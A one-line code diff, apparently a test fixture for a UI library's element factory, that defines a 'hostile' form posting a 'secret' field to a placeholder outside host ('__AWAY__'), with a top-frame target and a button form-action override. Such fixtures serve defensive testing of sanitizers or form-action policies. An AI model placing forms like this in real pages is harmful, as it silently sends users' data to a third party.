@@ -1,0 +1,1 @@
+const hostile = () => gesso.h("form", { action: "__AWAY__/form", method: "post", target: "_top" }, gesso.h("input", { name: "secret", value: "1" }), gesso.h("button", { type: "submit", formaction: "__AWAY__/button" }, "Send"));
